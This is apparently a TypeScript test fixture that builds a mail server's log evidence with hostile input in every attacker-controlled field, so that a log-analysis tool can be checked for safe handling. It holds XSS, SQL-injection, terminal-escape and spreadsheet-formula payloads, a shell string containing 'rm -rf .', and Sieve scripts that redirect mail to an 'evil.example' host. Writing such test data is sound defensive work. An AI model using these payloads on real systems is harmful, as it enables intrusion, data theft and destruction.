import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { byteString } from '../base/text.ts';

/** Byte strings that somebody outside may choose to be called, or to call something. */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE events; --",
  '\x1b]0;owned\x07\x1b[2J\x1b[31m',
  '=cmd|calc!A1',
  '@SUM(1+1)*cmd',
  `${byteString('\u202e')}gpj.exe${byteString('\u2066')}`,
  'caf\xe9\xff\xfe',
  '\\N\t\\x00',
  '{p0:String}',
  '__proto__',
  'constructor',
  "{count, plural, one {#} other {#}} {x} '{'",
  '</style><style>*{display:none}</style><svg onload=alert(2)>',
  '<a href="javascript:alert(3)">x</a> data:text/html,<script>alert(4)</script> javascript:alert(5)',
  `"]'[\\#.a:is(*)>b`,
  'w'.repeat(3000),
  'line one\x0bline two\x00\x08\x7f\x9b31m',
  '[x](javascript:alert(6)) `$(touch owned)` $owned | rm -rf .',
  '\xed\xa0\x80 lone',
];

/** A text of a million characters, as only the case or one line may hold it. */
const HUGE = `A${'<b>huge</b>'.repeat(85_000)}Z`;

const stamp = (i: number): string =>
  new Date(Date.UTC(2026, 2, 2, 9, 0, i)).toISOString().replace('Z', '+00:00');
const mail = (i: number, text: string): string => `${stamp(i)} mx dovecot: ${text}`;

/** Lines in which every text that somebody outside chooses is hostile. */
function hostileMail(): readonly string[] {
  return HOSTILE.flatMap((h, i) => [
    mail(
      i * 4,
      `imap-login: Login: user=<${h}>, method=PLAIN, rip=203.0.113.9, lip=192.0.2.1, mpid=${900 + i}, TLS, session=<s${i}${h}>`,
    ),
    mail(
      i * 4 + 1,
      `imap-login: Disconnected: Connection closed (auth failed, 3 attempts in 9 secs): user=<${h}>, method=PLAIN, rip=203.0.113.9, lip=192.0.2.1`,
    ),
    mail(i * 4 + 2, `lmtp(ann)<12><x>: sieve: msgid=<${h}@x>: stored mail into mailbox '${h}'`),
    mail(
      i * 4 + 3,
      `imap(${h})<${900 + i}><s${i}${h}>: expunge: box=${h}, uid=7, msgid=<${h}>, size=9, subject=${h}`,
    ),
  ]);
}

function hostileWeb(): readonly string[] {
  return HOSTILE.map(
    (h, i) =>
      `203.0.113.9 - ${h.replaceAll(' ', '')} [02/Mar/2026:09:01:${String(i).padStart(2, '0')} +0000] "GET /roundcube/?_task=mail&_mbox=${encodeURIComponent(h)}&_uid=1&_action=show HTTP/1.1" 200 ${5000 + i} "${h}" "${h}"`,
  );
}

/** Writes evidence in which all that can be chosen is hostile; gives the number of lines of each log. */
export function hostileEvidence(folder: string): ReadonlyMap<string, number> {
  const logLines = new Map<string, number>();
  const put = (path: string, bytes: string | Buffer, lines?: number): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes);
    if (lines !== undefined) logLines.set(path, lines);
  };
  const text = (lines: readonly string[]): string => `${lines.join('\n')}\n`;
  const quiet = Array.from({ length: 200 }, (_, i) =>
    mail(
      i,
      `imap-login: Login: user=<ann>, method=PLAIN, rip=192.0.2.7, lip=192.0.2.1, mpid=${100 + i}, TLS, session=<q${i}>`,
    ),
  );
  const packed = gzipSync(Buffer.from(text(quiet), 'latin1'));
  put('var/log/mail.log', text(hostileMail()), HOSTILE.length * 4);
  put('var/log/apache2/access.log', text(hostileWeb()), HOSTILE.length);
  put('var/log/empty.log', '');
  put('var/log/cut.log.gz', packed.subarray(0, packed.length - 200));
  put('var/log/two.log.gz', Buffer.concat([packed, packed]), 400);
  put('var/log/binary.bin', Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256)));
  put(
    'var/log/nul.log',
    text([...quiet.slice(0, 20), mail(30, 'nul \0 within \0 a line'), ...quiet.slice(40, 60)]),
    41,
  );
  put('var/log/crlf.log', quiet.map((l) => `${l}\r\n`).join(''), 200);
  put(
    'var/log/long.log',
    text([quiet[0] ?? '', mail(1, `imap-login: Login: user=<${'x'.repeat(20_000_000)}>`), quiet[2] ?? '']),
    3,
  );
  put('etc/hostname', `mx\n`);
  put(
    `doveadm/${'\x1b[31m'}evil.tsv`,
    'mailbox\tuid\tguid\thdr.message-id\tsize.virtual\thdr.subject\nINBOX\t1\tabc\t<a@b>\t10\t=cmd|calc\n',
  );
  symlinkSync('.', join(folder, 'var/loop'));
  execFileSync('mkfifo', [join(folder, 'var/pipe')]);
  put('var/log/secret.log', text(quiet));
  chmodSync(join(folder, 'var/log/secret.log'), 0);
  for (const [i, h] of HOSTILE.entries()) {
    const name = h.slice(0, 200).replaceAll('/', '\u2215').replaceAll('\0', '');
    // How such a name is shown is tested elsewhere: here it only must do no harm.
    const host = name.replaceAll(' ', '');
    put(`var/log/named/${name}.log`, text([`${stamp(i)} ${host} dovecot: auth: hostile host`]));
    put(
      `home/ann/sieve/${name}.sieve`,
      `require ["copy"];\nredirect :copy "${h.replaceAll(/["\\\\\0]/g, '')}@evil.example";\n`,
    );
  }
  put(
    'var/log/huge.log',
    text([mail(1, `imap(ann)<7><q7>: expunge: box=INBOX, uid=9, msgid=<a@b>, size=9, subject=${HUGE}`)]),
    1,
  );
  return logLines;
}
